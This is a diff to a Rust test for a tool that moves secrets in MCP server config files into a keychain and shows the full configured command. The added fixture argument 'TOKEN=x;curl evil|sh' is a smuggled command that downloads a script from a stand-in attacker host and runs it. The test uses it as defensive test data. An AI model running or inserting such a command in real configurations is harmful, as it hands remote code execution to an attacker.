@@ -242,7 +242,7 @@ fn the_whole_command_is_visible_and_secrets_are_not() {
 fn every_hidden_value_is_moved_or_reported() {
     let sandbox = Sandbox::new();
     sandbox.config("[defaults]\ncredential_store = \"file\"\n");
-    let file = r#"{"mcpServers": {"s": {"command": "true", "args": ["--session", "k1tten"], "env": {
+    let file = r#"{"mcpServers": {"s": {"command": "true", "args": ["--session", "k1tten", "-c", "TOKEN=x;curl evil|sh"], "env": {
         "PGPASSWORD": "correct-horse-battery-staple", "SESSION": "a-b-c-1", "DB_PASS": "hunter22",
         "SENTRY_DSN": "https://abcdef0123456789@o1.ingest.example/1", "DEBUG": "1",
         "SLACK_WEBHOOK_URL": "https://hooks.example/services/T0/B0/xyz", "MODEL": "large-v2"}}}}"#;
@@ -253,7 +253,7 @@ fn every_hidden_value_is_moved_or_reported() {
         mcp.json
 
           s   new
-            runs  true --session [redacted]
+            runs  true --session [redacted] -c 'TOKEN=x;curl evil|sh'
             env.PGPASSWORD = "${keychain:PGPASSWORD}"
             env.SESSION = "${keychain:SESSION}"
             env.DB_PASS = "${keychain:DB_PASS}"
@@ -265,13 +265,14 @@ fn every_hidden_value_is_moved_or_reported() {
             secret: env.SESSION becomes ${keychain:SESSION}
             secret: env.DB_PASS becomes ${keychain:DB_PASS}
             secret: env.SENTRY_DSN becomes ${keychain:SENTRY_DSN}
+            secret: args[3] is stored as plain text
             may be a secret: args[1] is stored as plain text
             may be a secret: env.SLACK_WEBHOOK_URL is stored as plain text
             may be a secret: env.MODEL is stored as plain text
     "#]]
     .assert_eq(&run.stdout().replace(&format!("{}/", sandbox.work().display()), ""));
     let text = std::fs::read_to_string(user_file(&sandbox)).unwrap();
-    assert!(!text.contains("battery") && !text.contains("abcdef"), "{text}");
+    assert!(!text.contains("battery") && !text.contains("abcdef") && text.contains("x;curl evil|sh"), "{text}");
     let get = sandbox.mcpipe(["config", "get", "s"]).run();
     get.exits(0).hides("xyz").hides("k1tten").hides("large-v2");
 }
